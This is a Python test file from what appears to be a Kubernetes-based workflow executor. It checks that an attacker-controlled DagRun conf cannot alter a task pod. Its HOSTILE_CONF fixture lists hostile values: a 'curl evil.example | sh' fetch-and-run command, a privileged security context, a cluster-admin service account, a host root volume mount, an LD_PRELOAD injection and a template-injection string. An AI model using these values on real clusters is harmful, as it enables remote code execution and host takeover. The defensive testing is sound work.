"""A run's `conf` (whoever may create a DagRun sets it) cannot change a task's pod: image, command,
service account, security context, volumes... The pod builder takes them from the DAG (the task's
`container`, `podOverride`, KubernetesPodOperator arguments) and the chart's defaults, never from the
run; conf reaches an operator's try only as data inside its invocation, where a template the DAG's
author wrote may read it (docs/security.md).
"""

from __future__ import annotations

import json
from typing import Any

import msgspec
import pytest

from controller.executors import pods
from tests.unit.controller.executors.test_pod_snapshot import CASES, DEFAULTS, OWNER, invocation
from zonda.resources.invocations import INVOCATION_ENV

#: What an attacker who may only create DagRuns would put in conf to take over a pod.
HOSTILE_CONF: dict[str, Any] = {
    "image": "evil.example/root-shell:latest",
    "command": ["sh", "-c", "curl evil.example | sh"],
    "cmds": ["sh"],
    "arguments": ["-c", "id"],
    "serviceAccountName": "cluster-admin",
    "service_account_name": "cluster-admin",
    "podOverride": {"spec": {"hostNetwork": True, "hostPID": True}},
    "pod_override": {"spec": {"containers": [{"name": "base", "securityContext": {"privileged": True}}]}},
    "securityContext": {"runAsUser": 0, "privileged": True},
    "volumes": [{"name": "host", "hostPath": {"path": "/"}}],
    "env_vars": {"LD_PRELOAD": "/tmp/x.so"},
    "bash_command": "{{ ''.__class__ }}",
}


def built(case: str, conf: dict[str, Any]) -> dict[str, Any]:
    resolved = CASES[case]
    return pods.build_task_pod(
        invocation=msgspec.structs.replace(
            invocation(resolved.task_id, resolved.operator, dict(resolved.args)), conf=conf
        ),
        task=resolved,
        namespace="data",
        name="etl-pod",
        owner=OWNER,
        defaults=DEFAULTS,
    )


def without_invocation(pod: dict[str, Any]) -> tuple[dict[str, Any], str | None]:
    """The pod with its invocation variable taken out, and that variable's value."""
    pod = json.loads(json.dumps(pod))
    container = pod["spec"]["containers"][0]
    value = next((e["value"] for e in container.get("env", []) if e["name"] == INVOCATION_ENV), None)
    container["env"] = [e for e in container.get("env", []) if e["name"] != INVOCATION_ENV]
    return pod, value


@pytest.mark.parametrize("case", sorted(CASES))
def test_a_hostile_conf_changes_nothing_in_the_pod_but_the_invocations_data(case: str) -> None:
    plain, plain_invocation = without_invocation(built(case, {}))
    hostile, hostile_invocation = without_invocation(built(case, HOSTILE_CONF))
    assert hostile == plain
    if plain_invocation is None:  # a container task: the run's conf does not reach the pod at all
        assert hostile_invocation is None
        assert "evil" not in json.dumps(hostile)
    else:  # an operator's try: conf is data in the invocation, next to the DAG's own arguments
        decoded = json.loads(hostile_invocation or "{}")
        assert decoded["conf"] == HOSTILE_CONF
        assert decoded["args"] == json.loads(plain_invocation)["args"]
